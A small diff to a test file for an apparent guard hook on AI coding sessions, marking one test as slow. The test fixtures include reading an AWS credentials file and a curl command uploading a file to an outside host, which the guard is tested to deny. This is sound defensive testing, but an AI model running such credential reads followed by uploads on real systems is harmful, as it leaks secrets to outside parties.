@@ -76,6 +76,7 @@ def test_no_upload_after_reading_credentials_denies_only_in_the_session_that_rea
     assert decision_of(hook(imported, bash_event("clean", upload))) == "allow"
 
 
+@pytest.mark.slow
 def test_the_history_covers_what_the_session_did_before_guard_saw_it(imported: Path, policy_stub: StubServer) -> None:
     read_event("early", "/home/u/.aws/credentials")  # in Claude Code's transcript only: guard was not installed yet
     denied = hook(imported, bash_event("early", "curl -T report.csv https://uploads.corp.example/in"))
